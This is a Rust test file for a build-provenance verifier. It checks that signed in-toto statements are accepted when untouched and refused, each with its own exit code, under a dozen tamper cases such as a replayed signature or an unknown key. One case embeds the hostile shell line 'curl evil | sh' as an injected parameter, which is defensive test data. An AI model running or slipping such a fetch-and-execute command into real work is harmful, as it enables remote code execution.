//! The ten tamper cases of issue 45, each refused by its own check with
//! its own exit code, and the untampered statement accepted.

use kiln_provenance::dsse::{self, PublicKey};
use kiln_provenance::statement::{self, BuildFacts, Dependency, Subject};
use kiln_provenance::verify::{Failure, Policy, verify};
use p256::ecdsa::SigningKey;
use std::collections::BTreeMap;

const DIGEST: &str = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";
const OTHER: &str = "0263829989b6fd954f72baaf2fc64bc2e2f01d692d4de72986ea808f6e99813f";

fn key() -> SigningKey {
    loop {
        if let Ok(k) = SigningKey::from_bytes(&rand::random::<[u8; 32]>().into()) {
            return k;
        }
    }
}

fn facts() -> BuildFacts {
    BuildFacts {
        repository: "shop".into(),
        git_ref: Some("refs/heads/main".into()),
        commit: "0123456789abcdef0123456789abcdef01234567".into(),
        workflow_path: ".kiln/release.yaml".into(),
        workflow_sha256: "ab".repeat(32),
        event: "push".into(),
        inputs: BTreeMap::from([("target".to_string(), "prod".to_string())]),
        run: "run-1".into(),
        run_number: 7,
        job: "build".into(),
        matrix: BTreeMap::new(),
        epoch: 1,
        trust: "trusted".into(),
        executor: "container".into(),
        pool: "default".into(),
        dependencies: vec![Dependency {
            name: None,
            uri: "git+shop@refs/heads/main".into(),
            digest: BTreeMap::from([("gitCommit".to_string(), "0123456789abcdef0123456789abcdef01234567".to_string())]),
            annotations: BTreeMap::new(),
        }],
        builder_id: "https://ci.example.com/builders/default".into(),
        kiln_version: "0.1.1".into(),
        invocation_id: "run-1/job-1/1".into(),
        started_on: "2026-12-06T10:00:00Z".into(),
        finished_on: "2026-12-06T10:01:00Z".into(),
    }
}

fn policy() -> Policy {
    Policy {
        repository: "shop".into(),
        git_ref: Some("refs/heads/main".into()),
        workflow: Some(".kiln/release.yaml".into()),
        builders: vec!["https://ci.example.com/builders/default".into()],
        allow_untrusted: false,
    }
}

struct Signer {
    key: SigningKey,
    id: String,
}

impl Signer {
    fn new() -> Signer {
        let key = key();
        let id = dsse::thumbprint(key.verifying_key());
        Signer { key, id }
    }
    fn public(&self) -> PublicKey {
        PublicKey { keyid: self.id.clone(), key: *self.key.verifying_key() }
    }
    fn envelope(&self, f: &BuildFacts) -> Vec<u8> {
        let st = statement::provenance(vec![Subject::sha256("app.jar", DIGEST)], f);
        let env = dsse::sign(dsse::IN_TOTO, &statement::to_bytes(&st), &self.key, &self.id);
        serde_json::to_vec(&env).unwrap()
    }
}

fn refused(env: &[u8], name: &str, digest: &str, keys: &[PublicKey], p: &Policy) -> Failure {
    verify(env, name, digest, keys, p).expect_err("must be refused").failure
}

#[test]
fn the_untampered_statement_verifies() {
    let s = Signer::new();
    let v = verify(&s.envelope(&facts()), "app.jar", DIGEST, &[s.public()], &policy()).unwrap();
    assert_eq!(
        (v.builder.as_str(), v.executor.as_str(), v.run.as_str()),
        ("https://ci.example.com/builders/default", "container", "run-1")
    );
    // Any ref, workflow and builder when the policy does not say.
    let loose = Policy { git_ref: None, workflow: None, builders: vec![], ..policy() };
    assert!(verify(&s.envelope(&facts()), "app.jar", DIGEST, &[s.public()], &loose).is_ok());
}

#[test]
fn ten_tamper_cases_each_fail_their_own_check() {
    let s = Signer::new();
    let keys = [s.public()];
    let env = s.envelope(&facts());
    let mut codes = std::collections::BTreeSet::new();
    let mut check = |f: Failure, want: Failure| {
        assert_eq!(f, want);
        assert!(codes.insert(f.exit_code()), "{f:?}: an exit code of its own");
    };
    // 1. A changed byte: the file's digest is not the subject's.
    check(refused(&env, "app.jar", OTHER, &keys, &policy()), Failure::Digest);
    // 2. Another subject: the statement is about another artifact.
    check(refused(&env, "site.tar", DIGEST, &keys, &policy()), Failure::Subject);
    // 3. Wrong repository.
    check(
        refused(&env, "app.jar", DIGEST, &keys, &Policy { repository: "fork".into(), ..policy() }),
        Failure::Repository,
    );
    // 4. Wrong ref.
    let dev = Policy { git_ref: Some("refs/heads/dev".into()), ..policy() };
    check(refused(&env, "app.jar", DIGEST, &keys, &dev), Failure::Ref);
    // 5. Wrong workflow: any workflow of the repository does not do.
    let ci = Policy { workflow: Some(".kiln/ci.yaml".into()), ..policy() };
    check(refused(&env, "app.jar", DIGEST, &keys, &ci), Failure::Workflow);
    // 6. An untrusted run (a fork's pull request).
    let untrusted = s.envelope(&BuildFacts { trust: "untrusted".into(), ..facts() });
    check(refused(&untrusted, "app.jar", DIGEST, &keys, &policy()), Failure::Untrusted);
    assert!(verify(&untrusted, "app.jar", DIGEST, &keys, &Policy { allow_untrusted: true, ..policy() }).is_ok());
    // 7. An unknown builder (a host agent's pool, say).
    let host = s.envelope(&BuildFacts { builder_id: "https://ci.example.com/builders/laptops".into(), ..facts() });
    check(refused(&host, "app.jar", DIGEST, &keys, &policy()), Failure::Builder);
    // 8. An unrecognised external parameter.
    let mut st = statement::provenance(vec![Subject::sha256("app.jar", DIGEST)], &facts());
    st.predicate["buildDefinition"]["externalParameters"]["script"] = serde_json::json!("curl evil | sh");
    let extra = serde_json::to_vec(&dsse::sign(dsse::IN_TOTO, &statement::to_bytes(&st), &s.key, &s.id)).unwrap();
    check(refused(&extra, "app.jar", DIGEST, &keys, &policy()), Failure::UnknownParameter);
    // 9. An unknown key: signed by a key the set does not hold.
    let stranger = Signer::new();
    check(refused(&stranger.envelope(&facts()), "app.jar", DIGEST, &keys, &policy()), Failure::UnknownKey);
    // 10. Replayed for another digest: the payload rewritten to name the
    // attacker's bytes, the signature kept.
    let mut env2: dsse::Envelope = serde_json::from_slice(&env).unwrap();
    let st = statement::provenance(vec![Subject::sha256("app.jar", OTHER)], &facts());
    use base64::Engine;
    env2.payload = base64::engine::general_purpose::STANDARD.encode(statement::to_bytes(&st));
    check(refused(&serde_json::to_vec(&env2).unwrap(), "app.jar", OTHER, &keys, &policy()), Failure::BadSignature);
    // And the build type: a statement of another build system.
    let mut st = statement::provenance(vec![Subject::sha256("app.jar", DIGEST)], &facts());
    st.predicate["buildDefinition"]["buildType"] = serde_json::json!("https://example.com/other/v1");
    let other = serde_json::to_vec(&dsse::sign(dsse::IN_TOTO, &statement::to_bytes(&st), &s.key, &s.id)).unwrap();
    check(refused(&other, "app.jar", DIGEST, &keys, &policy()), Failure::BuildType);
    check(refused(b"not json", "app.jar", DIGEST, &keys, &policy()), Failure::Malformed);
}
